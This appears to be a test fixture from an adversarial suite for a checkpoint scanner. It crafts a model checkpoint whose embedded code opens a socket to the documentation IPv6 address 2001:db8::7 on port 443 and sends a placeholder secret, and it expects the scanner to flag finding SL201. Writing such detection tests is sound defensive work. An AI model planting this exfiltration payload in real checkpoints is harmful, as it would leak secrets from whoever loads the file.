"""Class: exfiltration. A TCP connection to an IPv6 address."""

from pathlib import Path

from tests.adversarial.craft import checkpoint, run

EXPECT = {"address": "2001:db8::7", "port": 443, "finding": "SL201"}


def make(folder: Path) -> Path:
    return checkpoint(
        folder,
        run("import socket; socket.create_connection(('2001:db8::7', 443), 2).sendall(b'SECRET')"),
    )
